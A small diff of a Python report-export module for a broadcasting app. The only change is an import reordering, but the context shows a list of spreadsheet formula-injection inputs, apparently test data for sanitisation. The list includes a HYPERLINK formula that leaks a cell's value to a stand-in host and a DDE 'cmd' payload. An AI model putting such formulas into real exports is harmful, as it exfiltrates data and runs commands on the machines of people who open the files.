@@ -11,8 +11,8 @@ from openpyxl import load_workbook
 
 from broadcast.domain.errors import InvalidInput
 from broadcast.domain.text import clean_text, printable, spreadsheet_cell
-from broadcast.services.reports.figures import Chart, Column, Report, Section
 from broadcast.services.reports.export import to_csv, to_xlsx
+from broadcast.services.reports.figures import Chart, Column, Report, Section
 
 TITLE = "Tiếp sóng chương trình pháp luật"
 FORMULAS = ('=HYPERLINK("http://x.example/?leak="&A1;"Bấm")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1;1)",
